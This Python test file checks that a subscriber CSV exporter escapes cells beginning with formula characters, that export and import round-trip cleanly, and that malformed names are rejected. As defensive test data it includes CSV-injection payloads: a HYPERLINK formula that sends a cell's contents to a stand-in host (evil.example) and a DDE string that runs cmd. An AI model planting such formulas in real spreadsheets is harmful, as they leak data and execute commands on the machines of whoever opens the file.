"""Subscriber CSV: the export is safe to open in a spreadsheet and reads back unchanged."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass

import pytest

from dispatch.audience.csvio import read_csv, write_csv

TOPICS = {"security": 1, "economy": 1}


@dataclass
class Person:
    email: str
    name: str | None
    topics: tuple[str, ...] = ("security",)
    timezone: str | None = None
    status: str = "active"


def export(*people: Person) -> list[list[str]]:
    out = io.StringIO()
    write_csv(out, people)
    return list(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("name, written", [
    ('=HYPERLINK("https://evil.example/?x="&A1,"Click")',
     '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("'=already quoted", "''=already quoted"),  # one more quote, so the import gives it back
    ("Ana", "Ana"),
    ("O'Brien", "O'Brien"),
    ("Ana-Maria", "Ana-Maria"),
])
def test_formula_cells_are_written_as_text(name, written):
    (_header, row) = export(Person("a@example.com", name))
    assert row[1] == written


def test_an_address_starting_with_a_formula_character_is_quoted_too():
    (_header, row) = export(Person("-ana@example.com", None))
    assert row[0] == "'-ana@example.com"


@pytest.mark.parametrize("name", ["-Ana", "=x", "+1 555", "@ana", "'=x", "''-x", "'Ana'",
                                  "Ana", "O'Brien"])
def test_export_then_import_gives_back_the_same_data(name):
    people = [Person("-ana@example.com", name, ("security", "economy"), "Asia/Seoul"),
              Person("bo@example.com", None, (), None)]
    out = io.StringIO()
    write_csv(out, people)
    text = out.getvalue().replace(",status", "").replace(",active", "")
    rows, rejected, read = read_csv(text, TOPICS)
    assert rejected == [] and read == 2
    assert [(r.email, r.name, r.topics, r.timezone) for r in rows] == [
        ("-ana@example.com", name, ["security", "economy"], "Asia/Seoul"),
        ("bo@example.com", None, [], None)]


def test_import_keeps_a_quote_that_does_not_guard_a_formula():
    rows, _, _ = read_csv("email,name\na@example.com,'quoted'\n", TOPICS)
    assert rows[0].name == "'quoted'"
    rows, _, _ = read_csv("email,name\na@example.com,'-Ana\n", TOPICS)
    assert rows[0].name == "-Ana"  # what the export writes for "-Ana"


@pytest.mark.parametrize("name, reason", [
    ("Ana\x07", "name contains the control character U+0007"),
    ("An\x85a", "name contains the control character U+0085"),
    ("x" * 201, "name longer than 200 characters (201)"),
])
def test_import_rejects_names_unfit_for_a_header(name, reason):
    rows, rejected, _ = read_csv(f"email,name\na@example.com,{name}\n", TOPICS)
    assert rows == [] and len(rejected) == 1
    line, email, why = rejected[0]
    assert (line, email) == (2, "a@example.com") and reason in why
